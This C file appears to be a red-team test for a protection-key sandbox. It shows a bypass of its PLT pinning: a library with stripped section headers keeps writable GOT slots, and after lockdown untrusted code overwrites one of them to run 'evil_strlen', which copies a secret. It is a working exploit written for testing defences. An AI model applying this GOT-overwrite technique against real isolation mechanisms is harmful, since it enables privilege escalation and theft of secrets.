// PLT pinning finds PLTs by section name: a library without a section
// header table keeps its PLT jumping through writable .got.plt slots.
//
// PlanPltPins() (runtime/inspector/plt.cc) collects the writable slots of
// every object from its dynamic segment, then looks for the entries that
// use them only in sections named .plt and .plt.sec of the file on disk.
// build.sh links libodd.so (tests/redteam/lib/odd.c) with partial RELRO
// and zeroes its e_shoff/e_shnum, which ld.so ignores: the object has
// writable slots, no sections, so no pins and no error, and the lockdown
// succeeds. Untrusted code then rewrites libodd's strlen slot; a trusted
// entry that calls odd_len() (through the program's read-only GOT) runs
// the attacker's function with the domain's PKRU.
//
//   tools/cordon-pku-run --kernel 6.1 -- build/redteam/plt_noshdr
//   tools/cordon-pku-run --kernel 6.12 -- build/redteam/plt_noshdr
#define _GNU_SOURCE
#include <elf.h>
#include <link.h>
#include "common.h"

size_t odd_len(const char* s);

static cordon_entry g_len;
static uint8_t g_stolen[32];
static volatile uint32_t g_pkru = 1;

// An ordinary trusted entry: the length of the caller's string.
static uint64_t e_len(uint64_t s, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)b; (void)c; (void)d; (void)e;
  if (!cordon_is_untrusted_range((void*)s, 1)) return (uint64_t)-1;
  return odd_len((const char*)s);
}

static size_t evil_strlen(const char* s) {
  uint32_t pkru;
  __asm__ volatile("xor ecx, ecx; rdpkru" : "=a"(pkru) : : "rcx", "rdx");
  g_pkru = pkru;
  memcpy(g_stolen, g_secret, 32);
  size_t n = 0;
  while (s[n]) n++;
  return n;
}

static uint64_t* g_slot;
static int find_slot(struct dl_phdr_info* info, size_t size, void* arg) {
  (void)size; (void)arg;
  if (strstr(info->dlpi_name, "libodd.so") == NULL) return 0;
  for (int i = 0; i < info->dlpi_phnum; i++) {
    if (info->dlpi_phdr[i].p_type != PT_DYNAMIC) continue;
    const ElfW(Dyn)* d = (const ElfW(Dyn)*)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
    uint64_t jmprel = 0, sz = 0, symtab = 0, strtab = 0;
    for (; d->d_tag != DT_NULL; d++) {
      if (d->d_tag == DT_JMPREL) jmprel = d->d_un.d_ptr;
      if (d->d_tag == DT_PLTRELSZ) sz = d->d_un.d_val;
      if (d->d_tag == DT_SYMTAB) symtab = d->d_un.d_ptr;
      if (d->d_tag == DT_STRTAB) strtab = d->d_un.d_ptr;
    }
    const ElfW(Rela)* r = (const ElfW(Rela)*)jmprel;
    for (size_t k = 0; k < sz / sizeof *r; k++) {
      const ElfW(Sym)* sym = (const ElfW(Sym)*)symtab + ELF64_R_SYM(r[k].r_info);
      if (strcmp((const char*)strtab + sym->st_name, "strlen") == 0)
        g_slot = (uint64_t*)(info->dlpi_addr + r[k].r_offset);
    }
  }
  return 1;
}

int main(void) {
  setup(0);
  cordon_register(g_dom, e_len, "len", &g_len);
  const uint64_t want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  dl_iterate_phdr(find_slot, NULL);
  if (g_slot == NULL) { printf("no strlen slot in libodd.so\n"); return 1; }
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }
  printf("ordinary call: %llu; libodd's strlen slot %p holds %p\n",
         (unsigned long long)cordon_call(g_len, (uint64_t)"hello", 0, 0, 0, 0), (void*)g_slot, (void*)*g_slot);
  fflush(stdout);
  *g_slot = (uint64_t)evil_strlen;  // after the lockdown
  const uint64_t n = cordon_call(g_len, (uint64_t)"hello!", 0, 0, 0, 0);
  printf("after the rewrite: %llu, evil strlen ran with PKRU %#x\n", (unsigned long long)n, g_pkru);
  dump("copied by the evil strlen", g_stolen, 32);
  printf("%s\n", fnv(g_stolen, 32) == want ? "fnv matches the secret: SECRET LEAKED" : "fnv does not match");
  return 0;
}
